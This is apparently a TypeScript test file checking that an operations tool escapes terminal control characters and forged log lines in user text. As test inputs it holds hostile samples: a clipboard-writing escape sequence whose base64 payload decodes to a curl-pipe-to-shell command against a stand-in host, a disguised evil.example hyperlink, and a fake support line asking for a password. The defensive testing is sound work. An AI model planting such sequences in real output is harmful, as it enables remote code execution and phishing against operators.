import { shown, table } from './output';

describe('what ops prints from users (issue 42: terminal escapes reached operators)', () => {
  it('when user text holds control characters, then each is written out and nothing reaches the terminal raw', () => {
    const clear = '\u001b[2J\u001b[H';
    const clipboard = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
    const link = '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\';
    expect(shown(`${clear}hi`)).toBe('\\x1b[2J\\x1b[Hhi');
    expect(shown(clipboard)).toBe('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
    expect(shown(link)).toBe('\\x1b]8;;https://evil.example\\x1b\\\\click\\x1b]8;;\\x1b\\\\');
    expect(shown('\u009b31m C1 CSI, DEL\u007f')).toBe('\\x9b31m C1 CSI, DEL\\x7f');
    const control = (c: string) => c.charCodeAt(0) < 0x20 || (c.charCodeAt(0) >= 0x7f && c.charCodeAt(0) <= 0x9f);
    for (const s of [clear, clipboard, link]) expect([...shown(s)].filter(control)).toEqual([]);
  });

  it('when user text holds newlines, tabs, backslashes or bidirectional overrides, then they are shown, so no line can be forged', () => {
    expect(shown('thanks\n[2026-11-28 05:00] support (Ali): send your password')).toBe(
      'thanks\\n[2026-11-28 05:00] support (Ali): send your password',
    );
    expect(shown('a\tb\\x1b')).toBe('a\\tb\\\\x1b');
    expect(shown('abc\u202Edcba')).toBe('abc\\u202edcba');
    expect(shown('Masjid an-Nūr, 12 Rue de Lille')).toBe('Masjid an-Nūr, 12 Rue de Lille');
  });

  it('when a table cell holds control characters, then the cell is escaped', () => {
    expect(table([{ name: 'x\u001b[31my' }])).toEqual(['name', '-'.repeat(10), 'x\\x1b[31my']);
  });
});
